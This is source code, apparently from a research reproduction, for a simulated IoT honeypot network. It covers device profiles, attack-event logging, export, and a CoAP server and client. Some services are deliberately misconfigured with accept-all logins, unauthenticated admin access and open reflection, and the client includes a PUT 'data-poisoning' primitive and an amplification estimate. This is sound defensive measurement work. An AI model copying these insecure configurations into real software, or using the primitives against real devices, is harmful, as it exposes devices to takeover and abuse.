				Username: ev.Username, Password: ev.Password}
			switch {
			case len(ev.Uploads) > 0:
				e.Type = AttackMalware
				e.Detail = ev.Uploads[0].Name
				e.Payload = ev.Uploads[0].Data
			case ev.Username != "" && !ev.LoginOK:
				e.Type = AttackBruteForce
			default:
				e.Type = AttackScan
			}
			h.Record(e)
		},
	})
	return Service{Port: 21, Transport: netsim.TCP, Protocol: iot.ProtoFTP,
		Stream: srv}
}

// smbService builds an SMB endpoint feeding the log.
func smbService(h *Honeypot) Service {
	srv := smb.NewServer(smb.Config{
		OnEvent: func(ev smb.Event) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoSMB, Src: ev.Remote,
				Detail: ev.Kind.String()}
			switch ev.Kind {
			case smb.KindEternalBlue, smb.KindEternalRomance:
				e.Type = AttackExploit
			case smb.KindPayloadDrop:
				e.Type = AttackMalware
				e.Payload = ev.Payload
			default:
				e.Type = AttackScan
			}
			h.Record(e)
		},
	})
	return Service{Port: 445, Transport: netsim.TCP, Protocol: iot.ProtoSMB,
		Stream: srv}
}

// modbusService builds a Modbus endpoint feeding the log.
func modbusService(h *Honeypot) Service {
	srv := modbus.NewServer(modbus.Config{
		OnEvent: func(ev modbus.Event) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoModbus, Src: ev.Remote}
			switch {
			case ev.Write:
				e.Type = AttackPoisoning
				e.Detail = "write register"
			case !ev.Valid:
				e.Type = AttackScan
				e.Detail = "invalid function code"
			default:
				e.Type = AttackScan
			}
			h.Record(e)
		},
	})
	return Service{Port: 502, Transport: netsim.TCP, Protocol: iot.ProtoModbus,
		Stream: srv}
}

// s7Service builds an S7 endpoint feeding the log.
func s7Service(h *Honeypot) Service {
	srv := s7.NewServer(s7.Config{
		OnEvent: func(ev s7.Event) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoS7, Src: ev.Remote}
			switch {
			case ev.JobFlood:
				e.Type = AttackDoS
				e.Detail = "ICSA-16-299-01 job flood"
			case ev.Function == s7.FuncWrite:
				e.Type = AttackPoisoning
			default:
				e.Type = AttackScan
			}
			h.Record(e)
		},
	})
	return Service{Port: 102, Transport: netsim.TCP, Protocol: iot.ProtoS7,
		Stream: srv}
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n]
}

// NewCowrie builds the Cowrie profile: SSH + Telnet with an IoT banner
// (Table 7: "SSH Server with IoT banner").
func NewCowrie(ip netsim.IPv4, clock netsim.Clock, log *Log) *Honeypot {
	h := New("Cowrie", "SSH Server with IoT banner", ip, clock, log)
	h.AddService(sshService(h, ssh.Config{Version: "SSH-2.0-OpenSSH_6.0p1 Debian-4+deb7u2", AcceptAll: true}))
	h.AddService(telnetService(h, telnet.Config{
		Auth:           telnet.AuthLogin,
		RawNegotiation: []byte{telnet.IAC, telnet.DO, telnet.OptNAWS},
		LoginPrompt:    "login: ",
		AcceptAll:      true,
	}))
	return h
}

// NewHosTaGe builds the HosTaGe profile: an Arduino board exposing IoT
// protocols plus SSH/HTTP/SMB (Table 7).
func NewHosTaGe(ip netsim.IPv4, clock netsim.Clock, log *Log) *Honeypot {
	h := New("HosTaGe", "Arduino Board with IoT Protocols", ip, clock, log)
	h.AddService(telnetService(h, telnet.Config{
		Auth: telnet.AuthLogin, NegotiateOptions: true, LoginPrompt: "login: ",
	}))
	h.AddService(mqttService(h, map[string]string{
		"arduino/sensors/temperature": "21.5",
		"arduino/sensors/smoke":       "0",
	}))
	h.AddService(amqpService(h))
	h.AddService(coapService(h, "arduino-smoke-sensor"))
	h.AddService(sshService(h, ssh.Config{Version: "SSH-2.0-dropbear_2019.78"}))
	h.AddService(httpService(h, "Arduino Web Panel", "lighttpd/1.4.35"))
	h.AddService(smbService(h))
	return h
}

// NewConpot builds the Conpot profile: a Siemens S7 PLC with SSH, Telnet,
// S7 and HTTP (Table 7).
func NewConpot(ip netsim.IPv4, clock netsim.Clock, log *Log) *Honeypot {
	h := New("Conpot", "Siemens S7 PLC", ip, clock, log)
	h.AddService(sshService(h, ssh.Config{Version: "SSH-2.0-OpenSSH_7.4"}))
	h.AddService(telnetService(h, telnet.Config{
		Auth:           telnet.AuthLogin,
		PreLoginBanner: "Connected to [00:13:EA:00:00:00]\r\n",
		LoginPrompt:    "login: ",
	}))
	h.AddService(s7Service(h))
	h.AddService(modbusService(h))
	h.AddService(httpService(h, "SIMATIC S7-300", "GoAhead-Webs"))
	return h
}

// NewThingPot builds the ThingPot profile: a Philips Hue bridge over XMPP
// and HTTP (Table 7).
func NewThingPot(ip netsim.IPv4, clock netsim.Clock, log *Log) *Honeypot {
	h := New("ThingPot", "Philips Hue Bridge", ip, clock, log)
	h.AddService(xmppService(h))
	h.AddService(httpService(h, "Philips hue personal wireless lighting", "nginx"))
	return h
}

// NewUPot builds the U-Pot profile: a Belkin Wemo smart switch over UPnP
// (Table 7).
func NewUPot(ip netsim.IPv4, clock netsim.Clock, log *Log) *Honeypot {
	h := New("U-Pot", "Belkin Wemo smart switch", ip, clock, log)
	h.AddService(upnpService(h, upnp.Device{
		Server:       "Unspecified, UPnP/1.0, Unspecified",
		UUID:         "Socket-1_0-221445K0101769",
		FriendlyName: "Wemo Switch",
		ModelName:    "Socket",
		Manufacturer: "Belkin International Inc.",
		DeviceType:   "urn:Belkin:device:controllee:1",
		Location:     "http://192.168.1.5:49153/setup.xml",
	}))
	return h
}

// NewDionaea builds the Dionaea profile: an Arduino IoT device with an HTTP
// front-end plus MQTT, FTP and SMB (Table 7).
func NewDionaea(ip netsim.IPv4, clock netsim.Clock, log *Log) *Honeypot {
	h := New("Dionaea", "Arduino IoT device with frontend", ip, clock, log)
	h.AddService(httpService(h, "Arduino IoT Dashboard", "nginx/1.14.0"))
	h.AddService(mqttService(h, map[string]string{"dionaea/device/state": "idle"}))
	h.AddService(ftpService(h))
	h.AddService(smbService(h))
	return h
}

// DeployAll builds the paper's full six-honeypot deployment (Figure 1) on
// consecutive addresses starting at base, registers them on the network,
// and returns them with the shared log.
func DeployAll(n *netsim.Network, base netsim.IPv4) ([]*Honeypot, *Log) {
	log := &Log{}
	clock := n.Clock()
	pots := []*Honeypot{
		NewHosTaGe(base, clock, log),
		NewUPot(base+1, clock, log),
		NewConpot(base+2, clock, log),
		NewThingPot(base+3, clock, log),
		NewCowrie(base+4, clock, log),
		NewDionaea(base+5, clock, log),
	}
	for _, hp := range pots {
		hp.Register(n)
	}
	return pots, log
}
