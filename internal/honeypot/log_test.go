package honeypot

import (
	"fmt"
	"sync"
	"testing"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// TestLogSequentialOrderPreserved pins the pre-sharding contract: a single
// appender reads its events back in append order.
func TestLogSequentialOrderPreserved(t *testing.T) {
	log := &Log{} // the zero value must be ready to use
	base := time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC)
	const n = 200
	for i := 0; i < n; i++ {
		log.Append(Event{
			// Repeated timestamps force the sequence tiebreaker to carry
			// the ordering within each second.
			Time:   base.Add(time.Duration(i/10) * time.Second),
			Src:    netsim.IPv4(i),
			Detail: fmt.Sprintf("ev-%d", i),
		})
	}
	if log.Len() != n {
		t.Fatalf("len %d, want %d", log.Len(), n)
	}
	events := log.Events()
	if len(events) != n {
		t.Fatalf("events %d, want %d", len(events), n)
	}
	for i, ev := range events {
		if ev.Src != netsim.IPv4(i) {
			t.Fatalf("event %d out of order: src %d", i, ev.Src)
		}
	}
}

// TestLogConcurrentAppendKeepsAll hammers the striped log from many
// goroutines and verifies nothing is lost and the merge is time-ordered.
func TestLogConcurrentAppendKeepsAll(t *testing.T) {
	log := &Log{}
	base := time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC)
	const workers, per = 8, 500
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				log.Append(Event{
					Time: base.Add(time.Duration(i) * time.Second),
					Src:  netsim.IPv4(w*per + i),
					Type: AttackScan,
				})
			}
		}(w)
	}
	wg.Wait()
	if log.Len() != workers*per {
		t.Fatalf("len %d, want %d", log.Len(), workers*per)
	}
	events := log.Events()
	if len(events) != workers*per {
		t.Fatalf("events %d, want %d", len(events), workers*per)
	}
	seen := make(map[netsim.IPv4]bool, len(events))
	for i, ev := range events {
		if i > 0 && ev.Time.Before(events[i-1].Time) {
			t.Fatalf("event %d out of time order", i)
		}
		if seen[ev.Src] {
			t.Fatalf("event for src %d appeared twice", ev.Src)
		}
		seen[ev.Src] = true
	}
}

// TestSortEventsCanonical verifies the canonical order is a pure function of
// content: shuffling the input does not change the sorted result.
func TestSortEventsCanonical(t *testing.T) {
	base := time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC)
	mk := func(i int) Event {
		return Event{
			Time: base.Add(time.Duration(i%3) * time.Minute), Honeypot: "Cowrie",
			Protocol: iot.ProtoTelnet, Src: netsim.IPv4(i % 7), Type: AttackScan,
			Detail: fmt.Sprintf("d%d", i%5), Payload: []byte{byte(i % 4)},
		}
	}
	var fwd, rev []Event
	for i := 0; i < 60; i++ {
		fwd = append(fwd, mk(i))
		rev = append(rev, mk(59-i))
	}
	SortEventsCanonical(fwd)
	SortEventsCanonical(rev)
	for i := range fwd {
		a, b := fwd[i], rev[i]
		if !a.Time.Equal(b.Time) || a.Src != b.Src || a.Detail != b.Detail ||
			string(a.Payload) != string(b.Payload) {
			t.Fatalf("canonical order depends on input order at %d: %+v vs %+v", i, a, b)
		}
	}
}

// TestFloodUpgradeThreshold verifies the striped counters keep the rate
// heuristic exact: the first floodThreshold events of a (protocol, source,
// day) key pass through, every later one is upgraded to DoS, and other
// sources and days are unaffected.
func TestFloodUpgradeThreshold(t *testing.T) {
	h := New("U-Pot", "hue", netsim.MustParseIPv4("130.226.56.10"), nil, &Log{})
	day0 := time.Date(2021, 4, 1, 12, 0, 0, 0, time.UTC)

	upgraded := func(tm time.Time, src netsim.IPv4) bool {
		ev := Event{Time: tm, Protocol: iot.ProtoUPnP, Src: src, Type: AttackScan}
		h.floodUpgrade(&ev)
		return ev.Type == AttackDoS
	}
	src := netsim.MustParseIPv4("8.8.4.4")
	for i := 0; i < floodThreshold; i++ {
		if upgraded(day0, src) {
			t.Fatalf("event %d upgraded below threshold", i)
		}
	}
	for i := 0; i < 5; i++ {
		if !upgraded(day0, src) {
			t.Fatalf("event %d past threshold not upgraded", floodThreshold+i)
		}
	}
	// A different source — hashing to any stripe — starts its own count.
	if upgraded(day0, netsim.MustParseIPv4("8.8.4.5")) {
		t.Fatal("fresh source inherited another source's count")
	}
	// The same source next day starts fresh.
	if upgraded(day0.Add(24*time.Hour), src) {
		t.Fatal("flood count leaked across the day boundary")
	}
}
