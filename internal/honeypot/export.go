package honeypot

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// The paper's deployment exports each honeypot's attacks daily and imports
// them into the analysis database (Section 3.3.2). This file implements
// that interchange as JSON Lines: one event per line, day-partitioned.

// eventJSON is the wire form of an Event. Payloads are base64 so arbitrary
// malware bytes survive the text encoding.
type eventJSON struct {
	Time     time.Time `json:"time"`
	Honeypot string    `json:"honeypot"`
	Protocol string    `json:"protocol"`
	Src      string    `json:"src"`
	Type     string    `json:"type"`
	Username string    `json:"username,omitempty"`
	Password string    `json:"password,omitempty"`
	Payload  string    `json:"payload,omitempty"`
	Detail   string    `json:"detail,omitempty"`
}

func toJSON(ev Event) eventJSON {
	j := eventJSON{
		Time:     ev.Time.UTC(),
		Honeypot: ev.Honeypot,
		Protocol: string(ev.Protocol),
		Src:      ev.Src.String(),
		Type:     string(ev.Type),
		Username: ev.Username,
		Password: ev.Password,
		Detail:   ev.Detail,
	}
	if len(ev.Payload) > 0 {
		j.Payload = base64.StdEncoding.EncodeToString(ev.Payload)
	}
	return j
}

func fromJSON(j eventJSON) (Event, error) {
	src, err := netsim.ParseIPv4(j.Src)
	if err != nil {
		return Event{}, fmt.Errorf("honeypot: bad src in export: %w", err)
	}
	ev := Event{
		Time:     j.Time,
		Honeypot: j.Honeypot,
		Protocol: iot.Protocol(j.Protocol),
		Src:      src,
		Type:     AttackType(j.Type),
		Username: j.Username,
		Password: j.Password,
		Detail:   j.Detail,
	}
	if j.Payload != "" {
		payload, err := base64.StdEncoding.DecodeString(j.Payload)
		if err != nil {
			return Event{}, fmt.Errorf("honeypot: bad payload in export: %w", err)
		}
		ev.Payload = payload
	}
	return ev, nil
}

// ExportJSONL writes events as JSON Lines.
func ExportJSONL(w io.Writer, events []Event) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for _, ev := range events {
		if err := enc.Encode(toJSON(ev)); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// ImportJSONL reads events back from a JSON Lines stream.
func ImportJSONL(r io.Reader) ([]Event, error) {
	var out []Event
	dec := json.NewDecoder(r)
	for {
		var j eventJSON
		if err := dec.Decode(&j); err == io.EOF {
			return out, nil
		} else if err != nil {
			return out, err
		}
		ev, err := fromJSON(j)
		if err != nil {
			return out, err
		}
		out = append(out, ev)
	}
}

// PartitionByDay splits events into UTC-day buckets keyed "2021-04-07",
// the daily export granularity of the paper's deployment. Keys returns
// sorted for deterministic iteration.
func PartitionByDay(events []Event) (map[string][]Event, []string) {
	byDay := make(map[string][]Event)
	for _, ev := range events {
		key := ev.Time.UTC().Format("2006-01-02")
		byDay[key] = append(byDay[key], ev)
	}
	keys := make([]string, 0, len(byDay))
	for k := range byDay {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return byDay, keys
}
