// Package honeypot implements the measurement-side honeypot framework and
// the six deployed honeypot profiles of the paper (Section 3.3): Cowrie,
// HosTaGe, Conpot, Dionaea, ThingPot and U-Pot. Each profile assembles the
// protocol servers of the product it models, normalizes their observations
// into attack events, and feeds the shared event log that Tables 7/12 and
// Figures 3/4/7/8/9 aggregate.
package honeypot

import (
	"bytes"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// AttackType buckets events the way Figure 4/7 present them.
type AttackType string

// Attack types observed by the paper's honeypots (Sections 4.3, 5.1).
const (
	AttackScan       AttackType = "scanning"     // connection/discovery probes
	AttackBruteForce AttackType = "brute-force"  // credential guessing
	AttackDictionary AttackType = "dictionary"   // systematic credential lists
	AttackMalware    AttackType = "malware"      // dropper / payload delivery
	AttackPoisoning  AttackType = "poisoning"    // data modification
	AttackDoS        AttackType = "dos"          // floods
	AttackReflection AttackType = "reflection"   // spoofed-source amplification
	AttackExploit    AttackType = "exploit"      // protocol exploit (EternalBlue, S7 job flood)
	AttackWebScrape  AttackType = "web-scraping" // HTTP content harvesting
)

// Event is one normalized attack event.
type Event struct {
	Time     time.Time
	Honeypot string
	Protocol iot.Protocol
	Src      netsim.IPv4
	Type     AttackType
	// Username/Password carry credential attempts (Table 12).
	Username string
	Password string
	// Payload carries dropped malware bytes or poisoned values.
	Payload []byte
	// Detail is free-form evidence ("$SYS subscription", "Trans2 exploit").
	Detail string
}

// Log is the shared, thread-safe event store. Appends land on one of
// logShards lock-striped slices chosen round-robin by a global sequence
// counter, so concurrent attack workers never serialize on a single mutex;
// Events merges the shards back into (Time, sequence) order. The zero value
// is ready to use.
type Log struct {
	seq    atomic.Uint64
	shards [logShards]logShard
}

// logShards is the append stripe count — comfortably above the replay's
// worker parallelism on any host this runs on.
const logShards = 32

// logShard is one append stripe, padded so adjacent shard headers do not
// share a cache line under concurrent append.
type logShard struct {
	mu     sync.Mutex
	events []seqEvent
	_      [64]byte
}

// seqEvent pairs an event with its global arrival sequence number.
type seqEvent struct {
	seq uint64
	ev  Event
}

// Append records an event.
func (l *Log) Append(ev Event) {
	s := l.seq.Add(1)
	sh := &l.shards[s&(logShards-1)]
	sh.mu.Lock()
	sh.events = append(sh.events, seqEvent{seq: s, ev: ev})
	sh.mu.Unlock()
}

// Events returns a snapshot of all events ordered by (Time, arrival
// sequence). For a single sequential appender this is exactly append order —
// the contract the pre-sharding log kept; concurrent appenders get a stable
// chronological linearization.
func (l *Log) Events() []Event {
	all := make([]seqEvent, 0, l.Len())
	for i := range l.shards {
		sh := &l.shards[i]
		sh.mu.Lock()
		all = append(all, sh.events...)
		sh.mu.Unlock()
	}
	sort.Slice(all, func(i, j int) bool {
		if !all[i].ev.Time.Equal(all[j].ev.Time) {
			return all[i].ev.Time.Before(all[j].ev.Time)
		}
		return all[i].seq < all[j].seq
	})
	out := make([]Event, len(all))
	for i := range all {
		out[i] = all[i].ev
	}
	return out
}

// Len returns the event count.
func (l *Log) Len() int {
	return int(l.seq.Load())
}

// SortEventsCanonical orders events by content alone — every field, ties
// broken field by field — removing scheduling artifacts. Two replays of the
// same plan under different worker counts produce logs whose canonical
// sorts are element-wise identical; the equivalence tests rely on this.
func SortEventsCanonical(evs []Event) {
	sort.Slice(evs, func(i, j int) bool {
		a, b := &evs[i], &evs[j]
		if !a.Time.Equal(b.Time) {
			return a.Time.Before(b.Time)
		}
		if a.Honeypot != b.Honeypot {
			return a.Honeypot < b.Honeypot
		}
		if a.Protocol != b.Protocol {
			return a.Protocol < b.Protocol
		}
		if a.Src != b.Src {
			return a.Src < b.Src
		}
		if a.Type != b.Type {
			return a.Type < b.Type
		}
		if a.Username != b.Username {
			return a.Username < b.Username
		}
		if a.Password != b.Password {
			return a.Password < b.Password
		}
		if a.Detail != b.Detail {
			return a.Detail < b.Detail
		}
		return bytes.Compare(a.Payload, b.Payload) < 0
	})
}

// Service is one listening port on a honeypot.
type Service struct {
	Port      uint16
	Transport netsim.Transport
	Protocol  iot.Protocol
	Stream    netsim.StreamHandler
	Datagram  netsim.DatagramHandler
}

// Honeypot is one deployed instance: a named device profile exposing
// services and logging attacks.
type Honeypot struct {
	Name    string
	Profile string // simulated device profile (Table 7 column 2)
	IP      netsim.IPv4
	Clock   netsim.Clock
	log     *Log

	mu       sync.RWMutex
	services map[uint16]Service

	floods [floodShards]floodShard
}

// floodKey tracks per-source daily request counts for DoS detection.
type floodKey struct {
	proto iot.Protocol
	src   netsim.IPv4
	day   int64
}

// floodShards stripes the flood counters by source address so concurrent
// workers hammering one honeypot from different sources do not serialize on
// one counter lock.
const floodShards = 16

// floodShard is one stripe of the flood-counter map, cache-line padded.
type floodShard struct {
	mu     sync.Mutex
	counts map[floodKey]int
	_      [64]byte
}

// floodThreshold is the per-day per-source event count beyond which further
// events are classified as a DoS flood. Connectionless and stateless
// protocols cannot distinguish one discovery probe from a flood except by
// rate, which is how the paper's honeypots (e.g. HosTaGe's DoS detection)
// identify the UDP floods dominating Figure 7.
const floodThreshold = 3

// floodUpgrade re-labels ev as DoS when its source exceeded the daily rate
// threshold on the protocol. It must be called before Record. Counters are
// striped by source low bits; one (protocol, source, day) key always lands on
// one stripe, so the upgrade decision sequence per key is unaffected.
func (h *Honeypot) floodUpgrade(ev *Event) {
	key := floodKey{proto: ev.Protocol, src: ev.Src, day: ev.Time.Unix() / 86400}
	sh := &h.floods[uint32(ev.Src)&(floodShards-1)]
	sh.mu.Lock()
	if sh.counts == nil {
		sh.counts = make(map[floodKey]int)
	}
	sh.counts[key]++
	count := sh.counts[key]
	sh.mu.Unlock()
	if count > floodThreshold {
		ev.Type = AttackDoS
		if ev.Detail == "" {
			ev.Detail = "rate threshold exceeded"
		}
	}
}

// ExemptPrefixes collects the deployed honeypots' /32s into a PrefixSet for
// a fault profile's exemption list. The paper's honeypots ran uninterrupted
// for the whole measurement month, so campaign replays on a faulted fabric
// exempt them: injected pathologies shape the scan and attack paths, not the
// vantage points themselves.
func ExemptPrefixes(pots ...*Honeypot) *netsim.PrefixSet {
	set := netsim.NewPrefixSet()
	for _, h := range pots {
		if h != nil {
			set.Add(netsim.NewPrefix(h.IP, 32))
		}
	}
	return set
}

// New builds an empty honeypot bound to the shared log. clock stamps
// datagram-service events; nil falls back to wall time.
func New(name, profile string, ip netsim.IPv4, clock netsim.Clock, log *Log) *Honeypot {
	if clock == nil {
		clock = netsim.WallClock{}
	}
	return &Honeypot{
		Name: name, Profile: profile, IP: ip, Clock: clock, log: log,
		services: make(map[uint16]Service),
	}
}

// AddService registers a listening service.
func (h *Honeypot) AddService(s Service) {
	h.mu.Lock()
	h.services[s.Port] = s
	h.mu.Unlock()
}

// Log returns the shared event log.
func (h *Honeypot) Log() *Log { return h.log }

// Record appends an event stamped with this honeypot's name.
func (h *Honeypot) Record(ev Event) {
	ev.Honeypot = h.Name
	h.log.Append(ev)
}

// Protocols lists the protocols this honeypot emulates.
func (h *Honeypot) Protocols() []iot.Protocol {
	h.mu.RLock()
	defer h.mu.RUnlock()
	seen := make(map[iot.Protocol]bool)
	var out []iot.Protocol
	for _, s := range h.services {
		if !seen[s.Protocol] {
			seen[s.Protocol] = true
			out = append(out, s.Protocol)
		}
	}
	return out
}

// StreamService implements netsim.Host.
func (h *Honeypot) StreamService(port uint16) netsim.StreamHandler {
	h.mu.RLock()
	defer h.mu.RUnlock()
	if s, ok := h.services[port]; ok && s.Transport == netsim.TCP {
		return s.Stream
	}
	return nil
}

// DatagramService implements netsim.Host.
func (h *Honeypot) DatagramService(port uint16) netsim.DatagramHandler {
	h.mu.RLock()
	defer h.mu.RUnlock()
	if s, ok := h.services[port]; ok && s.Transport == netsim.UDP {
		return s.Datagram
	}
	return nil
}

// staticHost adapts a single honeypot to netsim.HostProvider for
// registration at its address.
type staticHost struct {
	hp *Honeypot
}

// Host implements netsim.HostProvider.
func (s staticHost) Host(ip netsim.IPv4) netsim.Host {
	if ip == s.hp.IP {
		return s.hp
	}
	return nil
}

// Register wires the honeypot into the network fabric at its address.
func (h *Honeypot) Register(n *netsim.Network) {
	n.AddProvider(netsim.NewPrefix(h.IP, 32), staticHost{hp: h})
}
