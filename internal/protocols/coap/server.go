package coap

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"openhire/internal/netsim"
)

// AccessPolicy is how a CoAP server gates requests. The paper's Table 3
// misconfiguration classes map onto these.
type AccessPolicy uint8

// Access policies.
const (
	// AccessOpen answers every request from any source — the reflector
	// misconfiguration ("Reflection-attack resource").
	AccessOpen AccessPolicy = iota
	// AccessAdmin answers discovery and grants write access, leaking the
	// "220-Admin" style session banner ("No auth, admin access").
	AccessAdmin
	// AccessAuthenticated rejects requests with 4.01 Unauthorized. The few
	// correctly configured devices use this.
	AccessAuthenticated
)

// Resource is one CoAP resource on the server.
type Resource struct {
	Path  string
	Type  string // rt= attribute ("oic.r.temperature")
	Iface string // if= attribute
	Value []byte
	// Writable resources accept PUT/POST; the honeypot logs poisoning
	// attempts against them.
	Writable bool
}

// RequestEvent is surfaced to the owner for every datagram handled.
type RequestEvent struct {
	Time    time.Time
	From    netsim.IPv4
	Code    Code
	Path    string
	Payload []byte
	// ResponseBytes is the size of the reply, which together with the
	// request size gives the reflection amplification factor.
	ResponseBytes int
}

// ServerConfig configures a CoAP endpoint.
type ServerConfig struct {
	Policy    AccessPolicy
	Resources []Resource
	// Banner is prefixed to the /.well-known/core payload by some stacks;
	// the paper's Table 3 lists indicators like "x1C" and "220-Admin".
	Banner string
	// OnEvent, when non-nil, receives request observations.
	OnEvent func(RequestEvent)
	// Clock stamps events; nil falls back to wall time.
	Clock netsim.Clock
}

// Server is a CoAP resource server implementing netsim.DatagramHandler.
type Server struct {
	cfg      ServerConfig
	coreLink string // /.well-known/core rendering; cfg.Resources is immutable

	mu     sync.Mutex
	values map[string][]byte // live resource values (poisoning mutates these)
}

// NewServer builds a server from cfg.
func NewServer(cfg ServerConfig) *Server {
	if cfg.Clock == nil {
		cfg.Clock = netsim.WallClock{}
	}
	s := &Server{cfg: cfg, values: make(map[string][]byte)}
	for _, r := range cfg.Resources {
		s.values[r.Path] = append([]byte(nil), r.Value...)
	}
	entries := make([]string, 0, len(cfg.Resources))
	for _, r := range cfg.Resources {
		e := "<" + r.Path + ">"
		if r.Type != "" {
			e += `;rt="` + r.Type + `"`
		}
		if r.Iface != "" {
			e += `;if="` + r.Iface + `"`
		}
		entries = append(entries, e)
	}
	sort.Strings(entries)
	s.coreLink = strings.Join(entries, ",")
	return s
}

// CoreLinkFormat returns the RFC 6690 link list for /.well-known/core,
// rendered once at construction (resources never change after NewServer;
// poisoning mutates live values, not the resource list).
func (s *Server) CoreLinkFormat() string { return s.coreLink }

// Value returns the live value of a resource path.
func (s *Server) Value(path string) ([]byte, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	v, ok := s.values[path]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), v...), true
}

func (s *Server) resource(path string) (Resource, bool) {
	for _, r := range s.cfg.Resources {
		if r.Path == path {
			return r, true
		}
	}
	return Resource{}, false
}

// HandleDatagram implements netsim.DatagramHandler.
func (s *Server) HandleDatagram(from netsim.Endpoint, payload []byte) []byte {
	req, err := Unmarshal(payload)
	if err != nil {
		return nil // silently drop garbage, like real constrained stacks
	}
	resp := s.respond(req)
	var out []byte
	if resp != nil {
		out = resp.Marshal()
	}
	if s.cfg.OnEvent != nil {
		s.cfg.OnEvent(RequestEvent{
			Time: s.cfg.Clock.Now(), From: from.IP, Code: req.Code,
			Path: req.Path(), Payload: req.Payload, ResponseBytes: len(out),
		})
	}
	return out
}

func (s *Server) respond(req *Message) *Message {
	if req.Code == CodeEmpty || req.Code>>5 != 0 {
		return nil // not a request
	}
	resp := &Message{
		Type:      Acknowledgment,
		MessageID: req.MessageID,
		Token:     req.Token,
	}
	if req.Type == NonConfirmable {
		resp.Type = NonConfirmable
	}

	if s.cfg.Policy == AccessAuthenticated {
		resp.Code = CodeUnauthorized
		return resp
	}

	path := req.Path()
	switch req.Code {
	case CodeGET:
		if path == WellKnownCore {
			resp.Code = CodeContent
			resp.Options = []Option{{Number: OptContentFormat, Value: []byte{FormatLinkList}}}
			body := s.CoreLinkFormat()
			if s.cfg.Banner != "" {
				body = s.cfg.Banner + body
			}
			resp.Payload = []byte(body)
			return resp
		}
		s.mu.Lock()
		v, ok := s.values[path]
		s.mu.Unlock()
		if !ok {
			resp.Code = CodeNotFound
			return resp
		}
		resp.Code = CodeContent
		resp.Payload = append([]byte(nil), v...)
		return resp
	case CodePUT, CodePOST:
		r, ok := s.resource(path)
		if !ok {
			resp.Code = CodeNotFound
			return resp
		}
		if !r.Writable && s.cfg.Policy != AccessAdmin {
			resp.Code = CodeForbidden
			return resp
		}
		s.mu.Lock()
		s.values[path] = append([]byte(nil), req.Payload...)
		s.mu.Unlock()
		resp.Code = CodeChanged
		return resp
	case CodeDELETE:
		if s.cfg.Policy != AccessAdmin {
			resp.Code = CodeForbidden
			return resp
		}
		s.mu.Lock()
		delete(s.values, path)
		s.mu.Unlock()
		resp.Code = CodeDeleted
		return resp
	default:
		resp.Code = CodeNotAllowed
		return resp
	}
}

// AmplificationFactor estimates the reflection amplification a probe of
// reqBytes achieves against this server's discovery resource.
func (s *Server) AmplificationFactor(reqBytes int) float64 {
	if reqBytes <= 0 {
		return 0
	}
	resp := len(s.CoreLinkFormat()) + len(s.cfg.Banner) + 8 // header overhead
	return float64(resp) / float64(reqBytes)
}

// DefaultSensorResources builds the resource list of a typical exposed IoT
// sensor, used by the population generator and honeypot profiles.
func DefaultSensorResources(device string) []Resource {
	return []Resource{
		{Path: "/sensors/temperature", Type: "oic.r.temperature", Value: []byte("21.5"), Writable: false},
		{Path: "/sensors/humidity", Type: "oic.r.humidity", Value: []byte("40"), Writable: false},
		{Path: "/config/name", Type: "oic.wk.d", Value: []byte(device), Writable: true},
		{Path: "/firmware/version", Value: []byte("1.0.2"), Writable: false},
	}
}

// String implements a compact description used in scan result records.
func (p AccessPolicy) String() string {
	switch p {
	case AccessOpen:
		return "open"
	case AccessAdmin:
		return "admin"
	case AccessAuthenticated:
		return "authenticated"
	default:
		return fmt.Sprintf("policy(%d)", uint8(p))
	}
}
