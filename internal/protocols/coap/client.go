package coap

import "openhire/internal/prng"

// Client builds probe datagrams and interprets responses. CoAP is UDP, so
// the client is stateless: callers pass datagrams through netsim.Query (or a
// real net.PacketConn in the examples) themselves.
type Client struct {
	src    *prng.Source
	nextID uint16
}

// NewClient returns a client whose message IDs derive from seed.
func NewClient(seed uint64) *Client {
	src := prng.New(seed)
	return &Client{src: src, nextID: uint16(src.Uint64())}
}

// DiscoveryProbe builds the "/.well-known/core" GET the paper's scanner
// sends (Section 3.1.1).
func (c *Client) DiscoveryProbe() []byte {
	c.nextID++
	m := &Message{
		Type:      Confirmable,
		Code:      CodeGET,
		MessageID: c.nextID,
		Token:     []byte{byte(c.src.Uint64()), byte(c.src.Uint64())},
	}
	m.SetPath(WellKnownCore)
	return m.Marshal()
}

// Get builds a GET for an arbitrary path.
func (c *Client) Get(path string) []byte {
	c.nextID++
	m := &Message{Type: Confirmable, Code: CodeGET, MessageID: c.nextID}
	m.SetPath(path)
	return m.Marshal()
}

// Put builds a PUT carrying payload — the data-poisoning attack primitive
// observed on the honeypots (Section 4.3.1).
func (c *Client) Put(path string, payload []byte) []byte {
	c.nextID++
	m := &Message{Type: Confirmable, Code: CodePUT, MessageID: c.nextID, Payload: payload}
	m.SetPath(path)
	return m.Marshal()
}

// ParseDiscovery interprets a response to DiscoveryProbe. It returns the
// link-format body and whether the endpoint disclosed resources.
func ParseDiscovery(raw []byte) (body string, disclosed bool, err error) {
	m, err := Unmarshal(raw)
	if err != nil {
		return "", false, err
	}
	if m.Code != CodeContent {
		return "", false, nil
	}
	return string(m.Payload), len(m.Payload) > 0, nil
}
