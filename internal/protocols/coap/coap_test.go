package coap

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"

	"openhire/internal/netsim"
)

func TestMessageRoundTrip(t *testing.T) {
	m := &Message{
